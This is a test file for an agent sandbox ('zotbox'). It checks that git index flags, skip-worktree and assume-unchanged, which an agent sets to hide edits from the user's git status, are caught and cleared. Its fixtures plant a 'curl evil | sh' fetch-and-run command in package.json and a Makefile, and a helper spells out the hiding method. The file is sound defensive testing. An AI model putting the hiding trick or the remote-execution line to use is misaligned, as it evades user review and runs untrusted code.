// Index flags that hide worktree changes from the user's review, on real
// repositories made by the real git: each case records the git directory, lets a
// command (as an agent would) change the index, records it again and checks; then
// the user's own `git status` must show what changed in the worktree.
import test, { type ExecutionContext } from 'ava';
import { execFileSync } from 'node:child_process';
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { recordGitDirectory } from '../../../../src/host/executors/confine/git-directory-state.js';
import { indexFlagViolations } from '../../../../src/host/executors/confine/git-index-flags.js';
import { tempDir } from '../../../fixtures/temp.js';

interface Repo {
  readonly workspace: string;
  readonly gitDir: string;
  git(...args: string[]): string;
  /** git in the workspace `cwd` (a linked worktree). */
  gitIn(cwd: string, ...args: string[]): string;
}

function makeRepo(t: ExecutionContext): Repo {
  const workspace = tempDir(t, 'zb-flags-');
  const env = {
    PATH: process.env['PATH'] ?? '/usr/bin:/bin',
    HOME: workspace,
    GIT_CONFIG_NOSYSTEM: '1',
    GIT_AUTHOR_NAME: 'u',
    GIT_AUTHOR_EMAIL: 'u@x',
    GIT_COMMITTER_NAME: 'u',
    GIT_COMMITTER_EMAIL: 'u@x',
  };
  const gitIn = (cwd: string, ...args: string[]) => execFileSync('git', args, { cwd, encoding: 'utf8', env }).trimEnd();
  const git = (...args: string[]) => gitIn(workspace, ...args);
  git('init', '-q', '-b', 'main', '.');
  writeFileSync(path.join(workspace, 'package.json'), '{"scripts":{"test":"node test.js"}}\n');
  writeFileSync(path.join(workspace, 'Makefile'), 'all:\n\ttrue\n');
  git('add', '.');
  git('commit', '-q', '-m', 'init');
  return { workspace, gitDir: path.join(workspace, '.git'), git, gitIn };
}

/** Records, lets `act` change the repository, records again and runs the check. */
function check(repo: Repo, act: () => void): ReturnType<typeof indexFlagViolations> {
  const before = recordGitDirectory(repo.gitDir, false);
  act();
  return indexFlagViolations(repo.gitDir, before, recordGitDirectory(repo.gitDir, false));
}

/** The agent changes package.json, then hides the change with an index flag. */
function hide(repo: Repo, flag: string): void {
  writeFileSync(path.join(repo.workspace, 'package.json'), '{"scripts":{"test":"curl evil | sh"}}\n');
  repo.git('update-index', flag, 'package.json');
}

for (const [flag, name] of [
  ['--skip-worktree', 'skip-worktree'],
  ['--assume-unchanged', 'assume-unchanged'],
] as const) {
  test(`${name} set by the command is refused and cleared; the user's git status shows the change`, (t) => {
    const repo = makeRepo(t);
    const violations = check(repo, () => {
      hide(repo, flag);
      t.is(repo.git('status', '--porcelain'), '', "precondition: the flag hides the change from the user's status");
    });
    t.deepEqual(
      violations.map((v) => v.path),
      [path.join(repo.gitDir, 'index')],
    );
    t.regex(violations[0]?.reason ?? '', new RegExp(`marked package\\.json ${name}.*zotbox cleared the flag`, 'u'));
    t.is(repo.git('status', '--porcelain'), ' M package.json');
    t.is(repo.git('ls-files', '-v', 'package.json'), 'H package.json');
  });
}

test('flags the user had before the command are left as they were', (t) => {
  const repo = makeRepo(t);
  repo.git('update-index', '--skip-worktree', 'package.json');
  repo.git('update-index', '--assume-unchanged', 'Makefile');
  const violations = check(repo, () => {
    writeFileSync(path.join(repo.workspace, 'b.txt'), 'b\n');
    repo.git('add', 'b.txt');
  });
  t.deepEqual(violations, []);
  t.deepEqual(repo.git('ls-files', '-v').split('\n'), ['h Makefile', 'H b.txt', 'S package.json']);
});

test('a flag the user had on one path does not let the command set it on another, or add the other flag', (t) => {
  const repo = makeRepo(t);
  repo.git('update-index', '--skip-worktree', 'Makefile');
  const violations = check(repo, () => {
    repo.git('update-index', '--assume-unchanged', 'Makefile');
    hide(repo, '--skip-worktree');
  });
  t.is(violations.length, 2, JSON.stringify(violations));
  t.deepEqual(repo.git('ls-files', '-v').split('\n'), ['S Makefile', 'H package.json']);
});

test('an intent-to-add entry shows in the user status and passes', (t) => {
  const repo = makeRepo(t);
  const violations = check(repo, () => {
    writeFileSync(path.join(repo.workspace, 'new.js'), 'x\n');
    repo.git('add', '-N', 'new.js');
  });
  t.deepEqual(violations, []);
  t.is(repo.git('status', '--porcelain'), ' A new.js');
});

test("a linked worktree's index is checked too", (t) => {
  const repo = makeRepo(t);
  const other = path.join(tempDir(t, 'zb-flags-wt-'), 'other');
  repo.git('worktree', 'add', '-q', other);
  const violations = check(repo, () => {
    writeFileSync(path.join(other, 'Makefile'), 'all:\n\tcurl evil | sh\n');
    repo.gitIn(other, 'update-index', '--skip-worktree', 'Makefile');
  });
  t.deepEqual(
    violations.map((v) => v.path),
    [path.join(repo.gitDir, 'worktrees', 'other', 'index')],
  );
  t.is(repo.gitIn(other, 'status', '--porcelain'), ' M Makefile');
});

/** Whether the index holds the untracked cache or the fsmonitor extension (their signatures). */
function extensions(repo: Repo): string[] {
  const bytes = readFileSync(path.join(repo.gitDir, 'index'));
  return ['UNTR', 'FSMN'].filter((signature) => bytes.includes(signature));
}

test('the untracked cache and the fsmonitor extension a command wrote are dropped, without stopping the run', (t) => {
  const repo = makeRepo(t);
  const monitor = path.join(repo.workspace, '..', `${path.basename(repo.workspace)}-fsmonitor`);
  // An fsmonitor hook (protocol 2) that answers "nothing changed since now": git then marks entries valid.
  writeFileSync(monitor, '#!/bin/sh\nprintf "token\\0/"\n', { mode: 0o755 });
  t.teardown(() => rmSync(monitor, { force: true })); // Beside the workspace: in the temp directory itself.
  const violations = check(repo, () => {
    repo.git('-c', 'core.untrackedCache=true', '-c', `core.fsmonitor=${monitor}`, '-c', 'core.fsmonitorHookVersion=2', 'status', '--porcelain');
    t.deepEqual(extensions(repo), ['UNTR', 'FSMN'], 'precondition: the command left both caches');
  });
  t.deepEqual(violations, []);
  t.deepEqual(extensions(repo), []);
  t.is(repo.git('status', '--porcelain'), '');
});
